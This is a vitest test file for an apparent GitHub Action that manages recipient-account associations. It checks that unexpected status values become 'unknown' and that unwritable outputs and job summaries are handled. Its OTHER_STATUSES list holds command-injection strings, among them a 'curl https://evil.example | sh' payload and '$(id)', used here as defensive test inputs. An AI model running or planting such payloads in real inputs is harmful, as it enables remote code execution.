import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  account,
  activeRecords,
  bodyOf,
  RECIPIENT,
  RECORD,
  respondWith,
  runScenario,
  runWithFault,
  type Scenario,
  startScenario,
} from './scenario.ts';

const STATUSES = [
  'associating',
  'associated',
  'disassociating',
  'disassociated',
  'mixed',
  'unknown',
];
const OTHER_STATUSES = [
  'validating',
  'associated; curl https://evil.example | sh',
  '$(id)',
  '`id`',
  '"; exit 0 #',
  'ASSOCIATED',
  'mixed',
];

/** All values of `status` in the outputs of a run. */
function statusesOf({
  outputs,
  recipients,
}: Awaited<ReturnType<typeof runScenario>>): string[] {
  return [
    outputs['status'] ?? 'missing',
    ...recipients.map(({ status }) => String(status)),
  ];
}

/** Runs a scenario in which every list shows this status. */
function runWithStatus(status: string, scenario: Scenario) {
  const record = {
    id: RECORD,
    account_id: RECIPIENT,
    association_status: status,
  };
  return runWithFault(respondWith(bodyOf([record])), scenario);
}

describe.concurrent('the status in the outputs', () => {
  it.concurrent.each(OTHER_STATUSES)(
    'is unknown for a word that is not published: %s',
    async (status) => {
      for (const inputs of [
        { timeout: '8s' },
        { wait: 'false' },
        { 'dry-run': 'true' },
      ]) {
        const run = await runWithStatus(status, { inputs });
        expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
      }
    },
  );

  it.concurrent.each(OTHER_STATUSES)(
    'is unknown while a removal waits for: %s',
    async (status) => {
      const run = await runWithStatus(status, {
        recipients: [
          { accountId: RECIPIENT, id: RECORD, status: 'associated' },
        ],
        inputs: { state: 'absent', timeout: '8s' },
      });
      expect(run).toMatchObject({
        exitCode: 1,
        outputs: { 'recipient-id': RECORD },
      });
      expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
    },
  );

  it.each(['associated ', 'associated\u200b', '\u001b[0massociated'])(
    'is unknown for a published word with something around it: %j',
    async (status) => {
      const run = await runWithStatus(status, { inputs: { timeout: '8s' } });
      expect(run.exitCode).toBe(1);
      expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
    },
  );

  it('is mixed only for several accounts, and one of the published words for each', async () => {
    const statuses = [...OTHER_STATUSES, 'associated', 'associating'];
    const records = statuses.map((status, n) => ({
      id: `record${n}`,
      account_id: account(n),
      association_status: status,
    }));
    const run = await runWithFault(respondWith(bodyOf(records)), {
      inputs: {
        'recipient-account-id': records.map((one) => one.account_id).join(),
        timeout: '8s',
      },
    });
    expect(run.outputs['status']).toBe('mixed');
    expect(run.recipients.map(({ status }) => status)).toEqual([
      ...OTHER_STATUSES.map(() => 'unknown'),
      'associated',
      'associating',
    ]);
  });

  it.concurrent.each<[string, string, Scenario]>([
    ['the list cannot be read', 'unknown', { api: { tokens: [] } }],
    ['inputs are invalid', 'unknown', { inputs: { 'share-id': '' } }],
    ['no record exists', 'disassociated', { inputs: { 'dry-run': 'true' } }],
  ])('when %s is %s', async (_, status, scenario) => {
    const run = await runScenario(scenario);
    expect(run.outputs['status']).toBe(status);
    for (const one of statusesOf(run)) expect(STATUSES).toContain(one);
  });
});

it('outputs that cannot be written fail the step, after everything else was done', async () => {
  const run = await runScenario({ env: { GITHUB_OUTPUT: '/nowhere/output' } });
  expect(run).toMatchObject({ exitCode: 1, signal: null, stderr: '' });
  expect(run.errors).toMatchObject([
    {
      title: 'Outputs could not be written',
      message: expect.stringMatching(/recipient-id.*\/nowhere\/output/),
    },
  ]);
  expect(activeRecords(run)).toMatchObject([
    { association_status: 'associated' },
  ]);
  expect(run.summary).toContain('1 account added');
});

it('a log that nobody reads any more does not end the run', async () => {
  const started = await startScenario({
    api: { timeline: { associateReads: 1 } },
    onOutput: (text) => {
      if (text.includes('added as recipient')) started.child.stdout?.destroy();
    },
  });
  const { exitCode, signal, outputs, summary } = await started.finished;
  expect({ exitCode, signal }).toEqual({ exitCode: 0, signal: null });
  expect(outputs).toMatchObject({ status: 'associated', changed: 'true' });
  expect(summary).toContain('1 account added');
});

describe.concurrent('summary: false', () => {
  it('writes no job summary', async () => {
    const run = await runScenario({ inputs: { summary: 'false' } });
    expect(run).toMatchObject({ exitCode: 0, summary: '' });
  });

  it('writes no job summary of invalid inputs either', async () => {
    const run = await runScenario({
      inputs: { summary: 'false', 'share-id': '' },
    });
    expect(run).toMatchObject({ exitCode: 1, summary: '' });
  });
});

describe.runIf(process.platform !== 'win32')(
  'a job summary whose file is a FIFO that nobody reads',
  () => {
    it.concurrent.for<[string, Record<string, string>]>([
      ['does not hold the run', {}],
      ['does not hold a run with invalid inputs', { 'share-id': '' }],
    ])('%s', async ([, inputs], { expect, onTestFinished }) => {
      const folder = mkdtempSync(join(tmpdir(), 'summary-'));
      onTestFinished(() => rmSync(folder, { recursive: true }));
      const GITHUB_STEP_SUMMARY = join(folder, 'fifo');
      execFileSync('mkfifo', [GITHUB_STEP_SUMMARY]);
      const run = await runScenario({
        env: { GITHUB_STEP_SUMMARY },
        inputs,
        killAfterMs: 20_000,
      });
      expect(run.signal).toBe(null);
      expect(run.annotations).toContainEqual({
        level: 'warning',
        title: 'Job summary could not be written',
        message: 'GITHUB_STEP_SUMMARY is a FIFO.',
      });
      expect(Object.keys(run.outputs)).toHaveLength(4);
    });
  },
);

it.concurrent.each<[string, string | undefined]>([
  ['does not exist', '/nowhere/summary.md'],
  ['is missing', undefined],
])(
  'a job summary that cannot be written is a warning: its file %s',
  async (_, GITHUB_STEP_SUMMARY) => {
    const run = await runScenario({ env: { GITHUB_STEP_SUMMARY } });
    expect(run).toMatchObject({
      exitCode: 0,
      stderr: '',
      outputs: { status: 'associated' },
    });
    expect(run.annotations).toMatchObject([
      { level: 'warning', title: 'Job summary could not be written' },
    ]);
  },
);
